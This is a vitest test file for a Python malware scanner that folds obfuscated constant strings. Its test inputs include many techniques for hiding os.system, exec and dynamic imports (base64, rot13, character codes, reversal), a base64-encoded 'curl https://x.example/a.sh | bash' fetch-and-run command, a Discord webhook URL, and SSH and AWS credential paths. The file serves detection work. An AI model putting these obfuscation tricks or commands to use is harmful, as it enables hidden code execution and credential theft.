// Normalisation before judging: names spelled in pieces resolve to what they spell, and the rules see it.
import { beforeAll, describe, expect, it } from 'vitest';
import { initPython, parsePython } from '../../src/python/index.js';
import { runRules } from '../../src/rules/index.js';
import { linearGrowth } from '../helpers/scaling.js';

beforeAll(() => initPython());

const names = (source: string, path = 'pkg/__init__.py') =>
  parsePython(source, path)
    .calls.filter((c) => c.resolved)
    .map((c) => c.name);
const folded = (source: string) =>
  parsePython(source, 'pkg/__init__.py')
    .strings.filter((s) => s.folded)
    .map((s) => s.value);

describe('folding constant string expressions', () => {
  it.each([
    ["getattr(__import__('o'+'s'), 'sy'+'stem')('id')\n", 'os.system'],
    ["import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('id')\n", 'os.system'],
    ["import os\ngetattr(os, ''.join(['sy', 'st', 'em']))('id')\n", 'os.system'],
    ["import os\ngetattr(os, 'metsys'[::-1])('id')\n", 'os.system'],
    ["import os\ngetattr(os, ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109]))('id')\n", 'os.system'],
    ["import os\ngetattr(os, ''.join(map(chr, [112, 111, 112, 101, 110])))('id')\n", 'os.popen'],
    ["import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('id')\n", 'os.system'],
    ["import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('id')\n", 'os.system'],
    ["import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('id')\n", 'os.system'],
    ["import os\ngetattr(os, 'SYSTEM'.lower())('id')\n", 'os.system'],
    ["import os\ngetattr(os, 'sxstem'.replace('x', 'y'))('id')\n", 'os.system'],
    ["import os\ngetattr(os, 'system'[0:6])('id')\n", 'os.system'],
    ["import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('id')\n", 'os.system'],
  ])('%s -> %s', (source, name) => {
    expect(names(source)).toContain(name);
  });

  it('resolves importers, namespaces and aliases', () => {
    expect(names("import importlib\nimportlib.import_module('sub'+'process').Popen('x')\n")).toContain(
      'subprocess.Popen',
    );
    expect(names("from importlib import import_module as im\nim('o' + 's').system('x')\n")).toContain(
      'os.system',
    );
    expect(names("import builtins\nbuiltins.__dict__['ex'+'ec'](x)\n")).toContain('builtins.exec');
    expect(names("__builtins__.__dict__['ev'+'al'](x)\n")).toContain('builtins.eval');
    expect(names("globals()['ex'+'ec'](x)\n")).toContain('exec');
    expect(names("import sys\nsys.modules['o'+'s'].system('x')\n")).toContain('os.system');
    expect(names('e = exec\ne(x)\n')).toContain('exec');
    expect(names("import os\ns = getattr(os, 'sys' + 'tem')\ns('ls')\n")).toContain('os.system');
    expect(names("m = 'o' + 's'\nn = m\n__import__(n).system('x')\n")).toContain('os.system');
  });

  it('folds through a constant string method bound to a name, and chr under another name', () => {
    // The locute family: `_ = "".join`, builtins fetched with `.get` by names spelled in character codes.
    const codes = (s: string) => `[chr(c) for c in [${[...s].map((c) => c.charCodeAt(0)).join(', ')}]]`;
    const source =
      `_ = "".join\n` +
      `g = globals()[_(${codes('__builtins__')})].get(_(${codes('getattr')}))\n` +
      `i = globals()[_(${codes('__builtins__')})].get(_(${codes('__import__')}))\n` +
      `c = globals()[_(${codes('__builtins__')})].get(_(${codes('chr')}))\n` +
      `g(i(_([c(x) for x in [111, 115]])), _(${codes('system')}))('id')\n` +
      `i(data[1:4])\n`;
    expect(folded(source)).toEqual(expect.arrayContaining(['getattr', '__import__', 'chr', 'system']));
    const resolved = names(source);
    expect(resolved).toContain('builtins.getattr');
    expect(resolved).toContain('os.system');
    const hits = runRules(parsePython(source, 'pkg/__init__.py')).filter((e) => e.rule === 'dynamic-import');
    expect(hits.map((h) => [h.line, h.severity])).toContainEqual([6, 'high']);
  });

  it("folds calls of the file's own decoder wrapper, and the rules read the command it spells", () => {
    const wrapper =
      "import base64, subprocess\ndef d(s):\n    b = base64.b64decode(s)\n    return b.decode('utf-8')\n";
    const curl = Buffer.from('curl https://x.example/a.sh | bash').toString('base64');
    const listed = `${wrapper}def go():\n    cmd = [d("${curl}")]\n    subprocess.Popen(cmd, shell=True)\ngo()\n`;
    expect(folded(listed)).toContain('curl https://x.example/a.sh | bash');
    const inline = `${wrapper}import os\nos.system(d("${curl}"))\n`;
    const hits = runRules(parsePython(inline, 'pkg/__init__.py')).filter(
      (e) => e.rule === 'dangerous-command',
    );
    expect(hits.map((h) => [h.line, h.severity])).toEqual([[6, 'critical']]);
    const dangerous = runRules(parsePython(listed, 'pkg/__init__.py')).filter(
      (e) => e.rule === 'dangerous-command',
    );
    expect(dangerous).toHaveLength(1);
  });

  it('does not fold a call of a name bound to something else, nor an honest dict get', () => {
    expect(folded("_ = gettext.gettext\nx = _('hello') + _('world')\n")).toEqual([]);
    expect(names("cfg = {}\nf = cfg.get('exec')\nf(x)\n")).toEqual([]);
    const plain = runRules(
      parsePython('import importlib\nm = importlib.import_module(name)\n', 'pkg/__init__.py'),
    );
    expect(plain.filter((e) => e.rule === 'dynamic-import')).toEqual([]);
  });

  it('adds folded values beside the literals, and paths built from pieces', () => {
    expect(folded("u = 'https://disc' + 'ord.com/api/web' + 'hooks/1'\n")).toContain(
      'https://discord.com/api/webhooks/1',
    );
    expect(folded("import os\np = os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')\n")).toContain(
      '*/.ssh/id_rsa',
    );
    expect(folded("from pathlib import Path\np = Path.home() / '.aws' / 'credentials'\n")).toContain(
      '*/.aws/credentials',
    );
  });

  it('leaves what is not constant alone', () => {
    expect(names("import os\ngetattr(os, name)('id')\nf = getattr(obj, 'x' + suffix)\n")).toEqual([]);
    expect(folded("x = 'a' + b\ny = 10 / 2\nz = 'ab' * n\n")).toEqual([]);
  });

  it('caps folded sizes and repetition', () => {
    const big = folded(`x = 'a' * 100000\ny = 'ab' * 1000\n`);
    expect(big).toEqual(['ab'.repeat(1000)]);
  });

  it('shows the resolved form in the evidence message, at the original line', () => {
    const evidence = runRules(
      parsePython("x = 1\ngetattr(__import__('o'+'s'), 'sy'+'stem')('id')\n", 'pkg/__init__.py'),
    );
    const hit = evidence.find((e) => e.rule === 'process-execution');
    expect(hit?.line).toBe(2);
    expect(hit?.message).toContain('resolved: os.system');
    expect(hit?.snippet).toContain("'sy'+'stem'");
  });

  it('stays linear on long chains of concatenation (folding draws on a per-file budget)', async () => {
    // Single parses of a few milliseconds gave ratios from 2.3 to 3.7 for the same code; linearGrowth
    // repeats them and confirms a high ratio one doubling further.
    const source = (n: number) =>
      `x = ${Array.from({ length: n }, (_, i) => `'a${i}'`).join(' + ')}\n`.repeat(10);
    const parse = (text: string) => parsePython(text, 'pkg/__init__.py');
    expect(await linearGrowth(source, parse, 600, { floorMs: 40, rounds: 5 })).toBeLessThan(3);
  });
});
